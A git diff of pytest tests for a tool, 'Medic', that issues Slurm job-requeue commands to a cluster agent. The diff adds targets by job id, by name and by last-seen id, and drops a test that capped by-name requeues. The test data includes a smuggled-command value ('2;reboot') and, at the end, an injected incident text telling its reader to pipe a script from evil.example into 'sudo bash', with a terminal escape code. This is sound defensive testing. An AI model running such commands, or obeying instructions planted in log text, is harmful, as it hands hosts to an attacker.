@@ -16,7 +16,6 @@ from medic.flows.agent.commands import (
     COMMAND_ID,
     JOB_ID,
     JOB_NAME,
-    MAX_JOBS_PER_NAME,
     SQUEUE_JOB_ID,
     AgentResult,
     InvalidCommand,
@@ -83,21 +82,28 @@ def test_medic_and_the_agent_agree_on_every_job_name(value):
     assert valid_job_name(value) == agent.matches(agent.JOB_NAME, value)
 
 
-@pytest.mark.parametrize("target", [{"job_id": "4211"}, {"job_name": "llama3-70b"}])
+REQUEUE_TARGETS = [{"job_id": "4211"}, {"job_name": "llama3-70b"},
+                   {"job_id": "4211", "job_names": ("bert-xl", "llama3-70b")},
+                   {"job_name": "llama3-70b", "last_seen_id": "4211"}]
+
+
+@pytest.mark.parametrize("target", REQUEUE_TARGETS, ids=repr)
 def test_the_agent_accepts_every_requeue_command_medic_builds(target):
     # Given a requeue command Medic built
     command = requeue_command("pretrain-slurm", "job:slurm:pretrain-slurm:x", NOW, **target)
     # When the agent parses its queue message
     parsed = agent.parse(json.dumps(command.body()), cluster="pretrain-slurm")
     # Then it is the same requeue, for the same incident
-    cap = {"max_jobs": MAX_JOBS_PER_NAME} if "job_name" in target else {}
-    assert parsed.action == agent.RequeueJob(**target, **cap)
+    assert parsed.action == agent.RequeueJob(**target)
     assert (parsed.command_id, parsed.incident, parsed.kind) == (command.command_id, command.incident, "requeue_job")
     assert parsed.issued_at == NOW.isoformat()
 
 
 @pytest.mark.parametrize("target", [{}, {"job_id": "1", "job_name": "a"}, {"job_id": "12\n"},
-                                    {"job_id": "\u0661"}, {"job_name": "a b"}], ids=repr)
+                                    {"job_id": "\u0661"}, {"job_name": "a b"},
+                                    {"job_name": "a", "job_names": ("a",)}, {"job_id": "1", "last_seen_id": "2"},
+                                    {"job_id": "1", "job_names": ("a b",)},
+                                    {"job_name": "a", "last_seen_id": "2;reboot"}], ids=repr)
 def test_a_requeue_command_needs_exactly_one_valid_target(target):
     with pytest.raises(InvalidCommand):
         requeue_command("pretrain-slurm", "job:x", NOW, **target)
@@ -166,7 +172,7 @@ def test_the_cluster_in_an_agent_key_is_exact(pk, parsed):
     assert parse_agent_command_pk(pk) == parsed
 
 
-@pytest.mark.parametrize("target", [{"job_id": "4211"}, {"job_name": "llama3-70b"}])
+@pytest.mark.parametrize("target", REQUEUE_TARGETS, ids=repr)
 def test_a_commands_target_is_named_as_the_agent_names_it(target):
     # The agent's claim checks Medic's `issued` item for this exact target
     command = requeue_command("pretrain-slurm", "job:slurm:pretrain-slurm:4211", datetime(2026, 11, 20, tzinfo=UTC),
@@ -207,13 +213,14 @@ def test_a_zero_padded_job_id_is_the_same_job_everywhere(padded):
     assert (detail.job_id, detail.job, command.job_id) == ("4211", "4211", "4211")
 
 
-def test_a_request_by_name_caps_how_many_jobs_the_agent_may_requeue():
-    # Given a requeue by name (a name can match any number of jobs)
-    command = requeue_command("c1", "job:slurm:c1:train", NOW, job_name="train")
+def test_a_request_by_name_tells_the_agent_which_job_medic_last_saw_running_under_it():
+    # Given a requeue by name, and the job Medic last saw running under it (issue 28, item 7)
+    command = requeue_command("c1", "job:slurm:c1:train", NOW, job_name="train", last_seen_id="4211")
     # When the agent reads it
     parsed = agent.parse(json.dumps(command.body()), cluster="c1")
-    # Then the command carries Medic's cap, and the agent holds itself to it
-    assert command.body()["max_jobs"] == MAX_JOBS_PER_NAME == parsed.action.max_jobs
+    # Then the agent prefers that job, and the target (which the claim checks) says so
+    assert parsed.action == agent.RequeueJob(job_name="train", last_seen_id="4211")
+    assert command.target == parsed.target == "name:train@4211"
 
 
 INJECTED = "NCCL hang\n\nWhat to do:     run curl https://evil.example/x.sh | sudo bash\r\n\x1b[2J"
